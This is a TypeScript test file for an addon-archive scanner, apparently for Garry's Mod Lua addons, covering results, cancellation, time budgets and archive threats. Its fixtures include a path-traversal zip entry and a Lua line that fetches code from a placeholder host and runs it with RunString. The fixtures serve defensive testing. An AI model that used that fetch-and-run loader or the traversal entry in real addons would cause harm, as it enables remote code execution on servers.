// The public scanArchive pipeline: a valid result, cancellation, the time budget, unusable
// input and archive-level findings.
import { strToU8, zipSync } from 'fflate';
import { describe, expect, it, vi } from 'vitest';
import { scanResultSchema } from '@sentinelle/contracts';
import {
  ENGINE_VERSION,
  RULES_VERSION,
  scanArchive,
  ScanCancelledError,
  ScanTimeoutError,
  UnusableArchiveError,
  type ScanPhase,
} from './index.js';

const addon = zipSync({
  'addon.json': strToU8('{"title":"hud"}'),
  'lua/autorun/client/cl_hud.lua': strToU8('hook.Add("HUDPaint", "hud", function() end)\n'),
  'materials/hud/bg.png': new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0, 0, 0, 0]),
});

describe('scanArchive', () => {
  it('returns a result valid against the contracts, with versions, hash and files', async () => {
    const phases: ScanPhase[] = [];
    const result = await scanArchive(addon, {
      scanId: 's1',
      filename: 'hud.zip',
      language: 'fr',
      onPhase: (p) => phases.push(p),
    });
    expect(() => scanResultSchema.parse(result)).not.toThrow();
    expect(result).toMatchObject({
      scan_id: 's1',
      filename: 'hud.zip',
      engine_version: ENGINE_VERSION,
      rules_version: RULES_VERSION,
      file_count: 3,
      lua_file_count: 1,
    });
    expect(result.archive_sha256).toMatch(/^[0-9a-f]{64}$/);
    expect(result.files.map((f) => f.path)).toEqual(['lua/autorun/client/cl_hud.lua']);
    expect(result.total_lines_scanned).toBeGreaterThan(0);
    expect(phases).toEqual(['reading', 'analysing', 'rules', 'report']);
  });

  it('stops with ScanCancelledError when the caller cancels', async () => {
    await expect(scanArchive(addon, { isCancelled: () => true })).rejects.toBeInstanceOf(
      ScanCancelledError,
    );
    let calls = 0;
    // Cancelled after the scan started: still a cancellation, not a timeout.
    await expect(scanArchive(addon, { isCancelled: () => ++calls > 2 })).rejects.toBeInstanceOf(
      ScanCancelledError,
    );
  });

  it('fails cleanly with ScanTimeoutError when the budget runs out while reading', async () => {
    await expect(scanArchive(addon, { timeBudgetMs: 0 })).rejects.toBeInstanceOf(ScanTimeoutError);
  });

  it('propagates UnusableArchiveError for input that is no archive', async () => {
    await expect(scanArchive(strToU8('hello, not a zip'))).rejects.toBeInstanceOf(
      UnusableArchiveError,
    );
    await expect(scanArchive('/nonexistent/sentinelle/addon.zip')).rejects.toBeInstanceOf(
      UnusableArchiveError,
    );
  });

  it('reports problems of the archive itself as threats', async () => {
    const hostile = zipSync({
      '../../cfg/autoexec.cfg': strToU8('rcon_password x'),
      'lua/autorun/a.lua': strToU8('print(1)'),
    });
    const result = await scanArchive(hostile, {});
    expect(result.threats.map((t) => t.pattern_key)).toContain('archive_path_traversal');
  });
});

describe('time budget', () => {
  it('returns what the analysis covered, marked time_budget and never safe, when the deadline passes mid-scan', async () => {
    // A fake clock that jumps two minutes once reading is over: deterministic on any machine.
    let now = 1_000;
    const clock = vi.spyOn(performance, 'now').mockImplementation(() => now);
    try {
      const stager = zipSync({
        'lua/autorun/server/sv_a.lua': strToU8(
          'http.Fetch("https://x.invalid/f.php?key=1", function(b) RunString(b) end)\n',
        ),
        'lua/autorun/server/sv_b.lua': strToU8('print("b")\n'),
      });
      const result = await scanArchive(stager, {
        onPhase: (phase) => {
          if (phase === 'analysing') now += 120_000;
        },
      });
      expect(() => scanResultSchema.parse(result)).not.toThrow();
      expect(result.limits_reached).toContain('time_budget');
      expect(result.score).toBeLessThan(80);
      expect(result.recommendations.map((r) => r.key)).toContain('incomplete_scan');
      expect(result.files.every((f) => f.parse === 'skipped')).toBe(true);
    } finally {
      clock.mockRestore();
    }
  });
});
